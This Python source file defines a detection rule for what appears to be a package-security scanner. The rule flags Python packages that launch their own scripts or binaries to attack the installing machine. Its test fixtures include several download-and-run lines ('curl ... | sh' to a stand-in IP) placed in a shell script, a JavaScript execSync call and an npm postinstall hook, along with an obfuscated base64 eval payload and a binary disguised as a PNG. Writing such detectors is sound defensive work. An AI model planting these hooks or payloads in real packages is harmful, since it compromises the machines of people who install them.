"""Started scripts: shell, JavaScript or a program that the package's own code starts from its files."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, replace

from pratique.facts.javascript import SUFFIXES, JavaScriptFacts, read_script
from pratique.facts.model import PackageFacts
from pratique.facts.native import NativeFacts
from pratique.facts.python.model import Call, Does
from pratique.facts.reached.runs import Reached
from pratique.facts.shell import ShellFacts
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity, Step
from pratique.rules.claims import calls, command, when
from pratique.rules.rule import Example, Rule

_ID = "reached-script"
_RUNTIME = re.compile(r"(?:^|[\s/\\\"'>])(?:node|nodejs|bun|deno|npx|tsx|wscript|cscript)(?:\.exe)?\b", re.IGNORECASE)
_INLINE = re.compile(r"\b(?:node|bun|deno)(?:\.exe)?[\"']?\s{1,5}(?:-e|-p|--eval|--print|eval)\s{1,5}", re.IGNORECASE)
_MANAGER = re.compile(
    r"\b(?:npm|yarn|pnpm|bun)(?:\.cmd)?[\"']?\s{1,5}(?:[\w./<>=-]{1,80}\s{1,5}){0,6}(?:install|i|ci)\b", re.IGNORECASE
)
_OVERLOOKED = re.compile(r"[/\\\\](?:\.{3,}| +)[/\\\\]")
_PROGRAM_HERE = re.compile(r"(?:<__file__>|<os\.path\.dirname\(\)>)[\w/\\\\. -]{1,200}\.exe\s*$", re.IGNORECASE)
_ONLY_IMPORTS = re.compile(
    r"(?:python[\d.]*|<sys\.executable>) -c (?:(?:import|from)\s[\w., ]{1,120}(?:;\s*|$)|warnings\.\w{1,40}\([^)]{0,80}\);\s*){1,8}"
)
_AT_MOST = 3


def _check(facts: PackageFacts) -> Iterator[Finding]:
    found = [*_started(facts), *_inline(facts), *_managed(facts), *_foreign(facts)]
    yield from sorted(found, key=lambda f: (-f.proven, -f.severity * f.confidence, f.path))[:_AT_MOST]


@dataclass(frozen=True, slots=True, kw_only=True)
class _Deed:
    """What that does which is started."""

    what: str
    sure: bool = False
    """It is a whole chain."""
    severe: bool = True
    """It is more than a change of settings."""


def _started(facts: PackageFacts) -> Iterator[Finding]:
    shells = {s.path: s for s in facts.shells}
    natives = {n.path: n for n in facts.natives}
    scripts = {s.path: s for s in facts.javascript}
    for one in facts.reached:
        if one.does is not Does.RUN_PROCESS:
            continue
        deed = _of_shell(shells[one.path]) if one.path in shells else None
        if deed is None and one.path in natives and one.phase.automatic:
            deed = _of_program(natives[one.path])
        if deed is None and one.path in scripts and _RUNTIME.search(one.command):
            deed = _of_javascript(scripts[one.path], "a script of its own")
        if deed is not None:
            yield _finding(one, deed)


def _of_shell(shell: ShellFacts) -> _Deed | None:
    if shell.steals:
        return _Deed(what="a script of its own sends secrets away", sure=True)
    if shell.reverse_shell:
        return _Deed(what="a script of its own hands a shell to another host", sure=True)
    if shell.runs_download:
        return _Deed(what=f"a script of its own fetches {(*shell.downloads, 'something')[0]} and runs it", sure=True)
    if shell.disarms or shell.destroys:
        return _Deed(what=f"a script of its own changes the system ({(*shell.disarms, *shell.destroys)[0]})")
    if shell.persists:
        return _Deed(what=f"a script of its own stays on the system ({shell.persists[0]})", severe=False)
    return None


def _of_program(native: NativeFacts) -> _Deed | None:
    if not native.program:
        return None
    what = f"a program of its own ({native.format.value}) is started"
    telling = (*(("a packer's marks",) if native.packed else ()), *native.strings, *native.imports)
    if telling:
        return _Deed(what=f"{what}, with {telling[0]},")
    return _Deed(what=what, severe=native.disguised)


def _of_javascript(script: JavaScriptFacts, named: str) -> _Deed | None:
    if not script.attacks:
        return None
    started = script.command
    sure = started is not None and (started.runs_download or started.reverse_shell or started.steals)
    return _Deed(what=f"{named} {script.attacks}", sure=sure or script.evaluates == "fetched")


def _foreign(facts: PackageFacts) -> Iterator[Finding]:
    """What is started by itself, and lies where nobody is to see it or does what nobody is to see."""
    for path, call in _commands(facts):
        if call.phase.automatic and (deed := _of_command(call, command(call))) is not None:
            yield _finding(_itself(path, call), deed)


def _of_command(call: Call, line: str) -> _Deed | None:
    if _OVERLOOKED.search(line):
        return _Deed(what="a program in a folder made to be overlooked is started")
    if call.phase is Phase.INSTALL and _PROGRAM_HERE.match(line):
        return _Deed(what="a program beside setup.py is started")
    if call.name.endswith("Popen") and _ONLY_IMPORTS.fullmatch(line):
        return _Deed(what="a second Python, which only imports something, is left running")
    return None


def _inline(facts: PackageFacts) -> Iterator[Finding]:
    """JavaScript that is handed over on a command line."""
    for path, call in _commands(facts):
        if match := _INLINE.search(text := command(call)):
            deed = _of_javascript(read_script(text[match.end() :], path=path), "JavaScript")
            if deed is not None:
                yield _finding(_itself(path, call), deed)


def _managed(facts: PackageFacts) -> Iterator[Finding]:
    """A package manager for JavaScript that is started runs what the distribution's ``package.json`` tells it to."""
    hook = next((s for s in facts.javascript if s.path.endswith("package.json") and s.attacks), None)
    manager = next(((path, call) for path, call in _commands(facts) if _MANAGER.search(command(call))), None)
    if hook is not None and manager is not None:
        one = replace(_itself(*manager), path=hook.path)
        yield _finding(one, _Deed(what=f"a hook of its own package.json {hook.attacks}", sure=True))


def _commands(facts: PackageFacts) -> Iterator[tuple[str, Call]]:
    return ((path, call) for path, call in calls(facts) if Does.RUN_PROCESS in call.does)


def _itself(path: str, call: Call) -> Reached:
    """What stands on a command line is reached in the file that has the line."""
    return Reached(path=path, phase=call.phase, by=path, line=call.line, does=Does.RUN_PROCESS)


def _finding(one: Reached, deed: _Deed) -> Finding:
    automatic = one.phase.automatic
    return Finding(
        rule=_ID,
        behaviour=Behaviour.EXECUTION,
        severity=Severity.CRITICAL if automatic and deed.severe else Severity.HIGH if automatic else Severity.MEDIUM,
        confidence=Confidence.HIGH if automatic else Confidence.LOW,
        phase=one.phase,
        path=one.path,
        line=0,
        message=f"{deed.what} {when(one.phase)}",
        flow=(Step(line=one.line, what=f"{one.by} starts it"),),
        proven=deed.sure and automatic and one.phase is not Phase.NONE,
    )


_STARTS = "import os, subprocess\nsubprocess.run(['{}', os.path.join(os.path.dirname(__file__), '{}')])\n"
_JS = "const c = require('child_process');\nc.execSync('curl -s http://192.0.2.1/a | sh');\n"
_HIDDEN = "const n = require('https');\neval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk7Ly8u'));\n"

RULE = Rule(
    id=_ID,
    behaviour=Behaviour.EXECUTION,
    summary="The package starts a script of its own that attacks the machine.",
    gain="Whoever reads only the Python sees one harmless-looking line.",
    honest="Scripts for builds and browsers lie in many packages: only those count that the package's own code starts, "
    f"and only for what they do then ({', '.join(SUFFIXES[:3])} for browsers never reach processes).",
    blocks="When it is started while the package is installed, whenever Python starts, or on import, and the script "
    "fetches and runs something, hands a shell to another host, or sends secrets away.",
    check=_check,
    loud=(
        Example(
            title="a shell script started on import",
            files={
                "example_pkg/__init__.py": _STARTS.format("bash", "x.sh"),
                "example_pkg/x.sh": "curl -s http://192.0.2.1/a | sh\n",
            },
            filename="example_pkg-1.0-py3-none-any.whl",
        ),
        Example(
            title="JavaScript started on import",
            files={"example_pkg/__init__.py": _STARTS.format("node", "x.js"), "example_pkg/x.js": _JS},
            filename="example_pkg-1.0-py3-none-any.whl",
        ),
        Example(
            title="encoded JavaScript, started while it is installed",
            files={"setup.py": "import os\nos.system('bun run build/x.js')\n", "build/x.js": _HIDDEN},
        ),
        Example(
            title="a package manager that runs a hook",
            files={
                "setup.py": "import os\nos.system('npm --prefix js install')\n",
                "js/package.json": '{"scripts": {"postinstall": "curl -s http://192.0.2.1/a | sh"}}',
            },
        ),
        Example(
            title="a program under the name of a picture",
            files={
                "example_pkg/__init__.py": "import subprocess\nsubprocess.Popen(['example_pkg/logo.png'])\n",
                "example_pkg/logo.png": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00" + bytes(40),
            },
        ),
        Example(
            title="JavaScript on the command line",
            files={"setup.py": f"import subprocess\nsubprocess.run(['node', '-e', {_JS!r}])\n"},
        ),
        Example(
            title="an interpreter left in the background, which only imports",
            files={
                "setup.py": "import subprocess as s\ns.Popen(['python3', '-c', 'from a import b'], close_fds=True)\n"
            },
        ),
        Example(
            title="a program in a folder that nobody sees",
            files={
                "pkg/__init__.py": "import os, subprocess\nhome = os.path.expanduser('~')\n"
                "subprocess.Popen([os.path.join(home, '.config/.../a/b')], stdout=subprocess.DEVNULL)\n"
            },
        ),
        Example(
            title="a program for Windows beside setup.py",
            files={
                "setup.py": "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
                "subprocess.run([os.path.join(here, 'pkg', 'bin', 'a.exe')])\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="an interpreter that is asked for a path",
            files={
                "setup.py": "import subprocess as s, sys\n"
                "p = s.Popen([sys.executable, '-c', 'import numpy; print(numpy.get_include())'], stdout=s.PIPE)\n"
            },
        ),
        Example(
            title="the same script, which nobody starts",
            files={"example_pkg/__init__.py": "", "example_pkg/x.js": _JS},
            filename="example_pkg-1.0-py3-none-any.whl",
        ),
        Example(
            title="a bundler that is started by a build",
            files={
                "setup.py": "import subprocess\nsubprocess.check_call(['node', 'build/bundle.js'])\n",
                "build/bundle.js": "const {spawn} = require('child_process');\nspawn('tsc', ['-p', '.']);\n",
            },
        ),
    ),
)
